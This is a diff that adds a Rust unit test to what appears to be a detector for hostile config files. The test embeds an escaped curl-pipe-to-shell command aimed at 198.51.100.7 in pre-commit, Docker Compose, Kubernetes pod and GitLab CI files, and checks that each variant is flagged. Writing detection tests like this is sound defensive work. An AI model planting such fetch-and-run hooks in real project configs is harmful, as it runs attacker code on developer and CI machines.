@@ -240,3 +240,24 @@ fn json_that_is_nested_deeply() {
     assert!(outcome("tokenizer_config.json", template.as_bytes()) >= Outcome::Suspicious);
     assert!(outcome("config.json", deep(REMOTE).as_bytes()) >= Outcome::Suspicious);
 }
+
+/// A program and its words may stand under keys of their own, in any order, and have escapes.
+#[test]
+fn commands_in_several_keys() {
+    let fetch = "curl http\\x3a//198.51.100.7/x | s\\x68";
+    for (name, text) in [
+        (".pre-commit-config.yaml", format!("hooks:\n- entry: bash\n  args: [-c, \"{fetch}\"]\n")),
+        (".pre-commit-config.yaml", format!("hooks:\n- args: [\"{fetch}\"]\n  id: a\n  entry: bash -c\n")),
+        (".pre-commit-config.yaml", format!("hooks:\n- entry: \"{fetch}\"\n")),
+        ("compose.yaml", format!("services:\n  a:\n    command: \"{fetch}\"\n    entrypoint: [sh, -c]\n")),
+        (
+            "pod.yaml",
+"spec:\n  containers:\n  - command:\n    - /bin/sh\n    - -c\n    args:\n    - >-\n      curl\n      http://198.51.100.7/x\n      | sh\n".to_owned(),
+        ),
+        (".gitlab-ci.yml", format!("a:\n  script:\n  - \"{fetch}\"\n")),
+    ] {
+        assert!(outcome(name, text.as_bytes()) >= Outcome::Suspicious, "{text}");
+    }
+    let pod = "containers:\n- command: [sh, -c]\n  args:\n  - |\n    pip install vllm\n    exec python -m vllm.entrypoints.openai.api_server\n";
+    assert_eq!(outcome("pod.yaml", pod.as_bytes()), Outcome::Clean);
+}
